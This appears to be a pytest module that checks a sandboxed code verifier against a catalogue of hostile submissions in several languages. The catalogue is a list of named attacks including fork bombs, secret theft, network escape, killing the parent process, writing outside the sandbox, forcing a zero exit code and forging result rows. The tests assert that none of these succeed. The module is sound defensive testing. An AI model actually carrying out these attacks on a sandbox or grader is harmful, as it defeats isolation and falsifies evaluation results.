REQUIRED = {"fork_bomb", "memory_bomb", "infinite_loop", "sleep_past_limit", "daemon_child", "output_flood",
            "huge_file_1gb", "write_outside", "read_project_file", "steal_secret", "network", "kill_parent",
            "kill_everything", "exit0_in_call", "forge_rows", "deep_recursion", "sigsegv"}


@pytest.fixture(scope="module")
def language_verifier(secret: str) -> Iterator[Verifier]:
    """Created after ``secret`` is in this process's environment, like the Python suite's verifier."""
    with Verifier(make_plugins(), isolation="namespaces", limits=LIMITS, workers=2) as verifier:
        yield verifier


@pytest.fixture(scope="module")
def outcomes(request: pytest.FixtureRequest, language_verifier: Verifier) -> dict[str, Outcome]:
    """Every selected attack, verified in two batches: those that spin until a time limit, then the rest."""
    selected = {item.callspec.id for item in request.session.items
                if item.module is request.module and hasattr(item, "callspec")}
    rows = [(p.id, *p.values) for p in ATTACKS if p.id in selected]
    spinning = [(id, language, code) for id, language, expected, code in rows if expected is S.TIMEOUT]
    others = [(id, language, code) for id, language, expected, code in rows if expected is not S.TIMEOUT]
    return {**run_attacks(language_verifier, spinning), **run_attacks(language_verifier, others)}


@pytest.mark.parametrize(("language", "expected", "code"), ATTACKS)
def test_language_attack(request: pytest.FixtureRequest, language: str, expected: VerdictStatus, code: str,
                         outcomes: dict[str, Outcome], secret: str) -> None:
    outcome = outcomes[request.node.callspec.id]
    verdict = outcome.verdict
    assert outcome.leftovers is None, outcome.leftovers  # (c)
    assert outcome.written is None, outcome.written  # (d)
    assert verdict.status is expected, verdict  # (a)
    assert not verdict.passed and not verdict.masked  # (b)
    assert not outcome.connections, f"a connection left the sandbox: {outcome.connections}"
    assert not leaked(verdict, secret), "the caller's secret reached the verdict"
    health = outcome.health
    assert all(v.status is S.PASSED for v in health.values()), health  # (e)


def test_every_language_has_the_required_attacks() -> None:
    ids = {p.id for p in ATTACKS}
    missing = sorted(f"{language}-{name}" for language in LANGUAGES for name in REQUIRED
                     if f"{language}-{name}" not in ids)
    assert not missing

